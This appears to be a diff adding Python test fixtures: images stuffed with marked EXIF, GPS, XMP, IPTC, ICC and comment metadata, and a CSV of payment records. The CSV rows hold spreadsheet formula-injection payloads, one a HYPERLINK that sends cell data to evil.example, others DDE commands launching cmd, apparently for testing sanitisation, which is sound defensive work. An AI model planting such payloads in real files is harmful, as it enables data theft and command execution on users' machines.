@@ -193,3 +193,84 @@ def pdf_with_pages_bytes(count: int) -> bytes:
 def unreadable_pdf_bytes() -> bytes:
     """Starts like a PDF, but no PDF reader can open it (no objects, no cross-reference table)."""
     return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + b"this was never a document " * 40 + b"\n%%EOF\n"
+
+
+# --- Images carrying every kind of metadata block (each marked with its own "SECRET-…" text) --------
+
+def _icc_profile_bytes() -> bytes:
+    from PIL import ImageCms
+
+    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
+
+
+def _exif_with_maker_note() -> Image.Exif:
+    exif = Image.Exif()
+    exif[0x010F] = "SECRET-EXIF-MAKE"  # camera make
+    exif[0x8825] = {1: "N", 2: (31.0, 14.0, 0.0), 3: "E", 4: (121.0, 28.0, 0.0)}  # GPS
+    exif.get_ifd(0x8769)[0x927C] = b"SECRET-MAKERNOTE"  # maker note, in the Exif sub-IFD
+    return exif
+
+
+def _xmp_packet() -> bytes:
+    return (b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
+            b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
+            b'xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="SECRET-XMP"/></rdf:RDF>'
+            b'</x:xmpmeta><?xpacket end="w"?>')
+
+
+def _jpeg_segment(marker: int, payload: bytes) -> bytes:
+    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload
+
+
+def jpeg_with_all_metadata_bytes() -> bytes:
+    """A JPEG photo with EXIF (GPS, maker note), XMP, IPTC (APP13), an ICC profile and a comment (COM)."""
+    buffer = io.BytesIO()
+    Image.open(io.BytesIO(photo_bytes(800, 600))).save(
+        buffer, "JPEG", quality=88, exif=_exif_with_maker_note(), icc_profile=_icc_profile_bytes(),
+    )
+    data = buffer.getvalue()
+    iptc = b"\x1c\x02\x78" + struct.pack(">H", 12) + b"SECRET-IPTC!"  # caption (2:120)
+    segments = (
+        _jpeg_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + _xmp_packet())
+        + _jpeg_segment(0xED, b"Photoshop 3.0\x00" + b"8BIM\x04\x04\x00\x00" + struct.pack(">I", len(iptc)) + iptc)
+        + _jpeg_segment(0xFE, b"SECRET-COMMENT")
+    )
+    return data[:2] + segments + data[2:]
+
+
+def png_with_all_metadata_bytes() -> bytes:
+    """A PNG with text chunks (tEXt, zTXt, iTXt with XMP), an eXIf chunk and an ICC profile (iCCP)."""
+    from PIL import PngImagePlugin
+
+    info = PngImagePlugin.PngInfo()
+    info.add_text("Comment", "SECRET-PNG-TEXT")
+    info.add_text("Author", "SECRET-PNG-ZTXT", zip=True)
+    info.add_itxt("XML:com.adobe.xmp", _xmp_packet().decode())
+    buffer = io.BytesIO()
+    Image.open(io.BytesIO(photo_bytes(400, 300))).save(
+        buffer, "PNG", pnginfo=info, exif=_exif_with_maker_note(), icc_profile=_icc_profile_bytes(),
+    )
+    return buffer.getvalue()
+
+
+def webp_with_all_metadata_bytes() -> bytes:
+    """A WebP with EXIF, XMP and ICCP chunks."""
+    buffer = io.BytesIO()
+    Image.open(io.BytesIO(photo_bytes(400, 300))).save(
+        buffer, "WEBP", quality=85, exif=_exif_with_maker_note(), xmp=_xmp_packet(), icc_profile=_icc_profile_bytes(),
+    )
+    return buffer.getvalue()
+
+
+def records_csv_with_formulas_bytes() -> bytes:
+    """A recharge-records CSV whose cells a spreadsheet would run as formulas (or DDE commands)."""
+    import csv
+
+    text = io.StringIO()
+    writer = csv.writer(text)
+    writer.writerow(["order_number", "amount", "currency", "paid_at", "product"])
+    writer.writerow(["TX-F-1", "30.00", "CNY", "2026-10-01 12:30", '=HYPERLINK("http://evil.example/?d="&A1,"Refund")'])
+    writer.writerow(["TX-F-2", "6", "CNY", "2026-10-02 09:00", "+cmd|' /C calc'!A0"])
+    writer.writerow(["TX-F-3", "12", "CNY", "2026-10-03 10:00", "@SUM(1+1)*cmd|' /C calc'!A0"])
+    writer.writerow(["TX-F-4", "8", "CNY", "2026-10-04 11:00", "-2+3+cmd|' /C calc'!A0"])
+    return text.getvalue().encode()
